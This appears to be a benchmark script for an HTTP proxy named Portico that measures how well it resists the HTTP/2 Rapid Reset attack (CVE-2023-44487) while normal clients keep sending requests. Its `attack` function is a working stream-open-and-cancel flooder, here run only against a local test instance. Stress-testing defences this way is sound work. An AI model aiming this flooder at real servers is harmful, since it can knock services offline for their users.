/**
 * Rapid reset (CVE-2023-44487) beside normal clients: reconnecting HTTP/2 attackers open streams and cancel
 * them at once, while keep-alive HTTP/1.1 clients send ordinary requests. Prints the normal clients' p50/p99
 * without and with the attack, the streams the attackers sent, and the upstream connections each run cost.
 *
 *   node --conditions=development bench/rapid-reset.ts [--attackers 15] [--seconds 3] [--clients 10]
 *
 * Portico runs from source in its own process (one h2c listener), the attackers in another (so the clients'
 * latencies are not their event loop's), the backend is a Node HTTP server in this one that counts the
 * connections it accepts. Everything stays on 127.0.0.1 and stops by itself.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { constants, connect as h2connect } from 'node:http2';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Pool } from 'undici';
import { option } from './options.ts';

const ATTACKERS = option('attackers', 15);
const SECONDS = option('seconds', 3);
const CLIENTS = option('clients', 10);
/** STREAMS_PER_BURST is how many streams an attacker opens and cancels before yielding to the event loop. */
const STREAMS_PER_BURST = 50;
/** MAIN is Portico's entry point; PORTICO_MAIN points at another checkout's, to compare builds. */
const MAIN =
  process.env.PORTICO_MAIN ?? fileURLToPath(new URL('../packages/cli/src/main.ts', import.meta.url));
const SELF = fileURLToPath(import.meta.url);

interface AttackTotals {
  streams: number;
  sessions: number;
  failedSessions: number;
}

/** attack runs `attackers` reconnecting attackers against `url` until `deadline`. */
async function attack(url: string, attackers: number, deadline: number): Promise<AttackTotals> {
  const totals: AttackTotals = { streams: 0, sessions: 0, failedSessions: 0 };
  const attacker = async () => {
    while (Date.now() < deadline) {
      totals.sessions++;
      await new Promise<void>((resolve) => {
        const session = h2connect(url);
        let open = true;
        const done = () => {
          if (!open) return;
          open = false;
          session.destroy();
          resolve();
        };
        session.on('error', () => {
          totals.failedSessions++;
          done();
        });
        session.on('close', done);
        session.on('goaway', done);
        const burst = () => {
          if (!open || Date.now() >= deadline) return done();
          for (let i = 0; i < STREAMS_PER_BURST && !session.destroyed && !session.closed; i++) {
            const stream = session.request({ ':path': '/attack' }, { endStream: true });
            stream.on('error', () => {});
            stream.close(constants.NGHTTP2_CANCEL);
            totals.streams++;
          }
          setImmediate(burst);
        };
        session.once('connect', burst);
      });
    }
  };
  await Promise.all(Array.from({ length: attackers }, attacker));
  return totals;
}

if (process.argv.includes('--attack')) {
  const url = process.argv[process.argv.indexOf('--attack') + 1]!;
  console.log(JSON.stringify(await attack(url, ATTACKERS, Date.now() + SECONDS * 1000)));
  process.exit(0);
}

let upstreamConnects = 0;
const backend = createServer({ keepAliveTimeout: 60_000 }, (req, res) => {
  req.resume();
  req.on('end', () => res.end('ok'));
});
backend.on('connection', () => upstreamConnects++);
await new Promise<void>((resolve) => backend.listen(0, '127.0.0.1', resolve));
const backendPort = (backend.address() as AddressInfo).port;

const dir = mkdtempSync(join(tmpdir(), 'portico-rapid-reset-'));
const config = join(dir, 'portico.yaml');
writeFileSync(
  config,
  `listeners: [{ name: edge, address: 127.0.0.1, port: 0, h2c: true }]
routes: [{ paths: [{ path: /, service: s }] }]
services: [{ name: s, endpoints: [{ address: 127.0.0.1, port: ${backendPort} }] }]
`,
);
const portico = spawn(process.execPath, ['--conditions=development', MAIN, 'run', '--config', config], {
  stdio: ['ignore', 'pipe', 'inherit'],
});
const port = await new Promise<number>((resolve, reject) => {
  const timer = setTimeout(() => reject(new Error('portico did not start')), 10_000);
  let output = '';
  portico.stdout!.setEncoding('utf8').on('data', (text: string) => {
    output += text;
    const found = /"port":(\d+)/.exec(output);
    if (found) {
      clearTimeout(timer);
      resolve(Number(found[1]));
    }
  });
});
portico.stdout!.resume();
const url = `http://127.0.0.1:${port}`;

/** attackProcess runs the attackers in a child process and returns what they did. */
function attackProcess(): Promise<AttackTotals> {
  const args = ['--conditions=development', SELF, '--attack', url, '--attackers', String(ATTACKERS)];
  const child = spawn(process.execPath, [...args, '--seconds', String(SECONDS)], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let output = '';
  child.stdout!.setEncoding('utf8').on('data', (text: string) => {
    output += text;
  });
  return new Promise((resolve) => child.on('exit', () => resolve(JSON.parse(output) as AttackTotals)));
}

interface RunFigures {
  requests: number;
  errors: number;
  p50: number;
  p99: number;
  upstreamConnects: number;
  attack: AttackTotals;
}

/** run sends keep-alive requests from CLIENTS connections for SECONDS, under attack when `attacked`. */
async function run(attacked: boolean): Promise<RunFigures> {
  upstreamConnects = 0;
  const deadline = Date.now() + SECONDS * 1000;
  const pool = new Pool(url, { connections: CLIENTS });
  const latencies: number[] = [];
  let errors = 0;
  const attacking = attacked ? attackProcess() : undefined;
  const client = async () => {
    while (Date.now() < deadline) {
      const started = performance.now();
      try {
        const res = await pool.request({ path: '/normal', method: 'GET' });
        await res.body.text();
        latencies.push(performance.now() - started);
      } catch {
        errors++;
      }
    }
  };
  await Promise.all(Array.from({ length: CLIENTS }, client));
  const attack = (await attacking) ?? { streams: 0, sessions: 0, failedSessions: 0 };
  await pool.close();
  latencies.sort((a, b) => a - b);
  const at = (q: number) => Math.round((latencies[Math.floor(q * (latencies.length - 1))] ?? 0) * 100) / 100;
  return { requests: latencies.length, errors, p50: at(0.5), p99: at(0.99), upstreamConnects, attack };
}

const quiet = await run(false);
const attacked = await run(true);
portico.kill('SIGTERM');
backend.close();
backend.closeAllConnections();

console.log(
  `rapid reset: ${ATTACKERS} reconnecting attackers, ${CLIENTS} keep-alive clients, ${SECONDS} s per run`,
);
console.log(
  '| run | client requests | errors | p50 ms | p99 ms | upstream connects | attack streams | attack sessions |',
);
console.log('|---|---:|---:|---:|---:|---:|---:|---:|');
for (const [name, r] of [
  ['quiet', quiet],
  ['attacked', attacked],
] as const) {
  console.log(
    `| ${name} | ${r.requests} | ${r.errors} | ${r.p50} | ${r.p99} | ${r.upstreamConnects} | ${r.attack.streams} | ${r.attack.sessions} (${r.attack.failedSessions} failed) |`,
  );
}
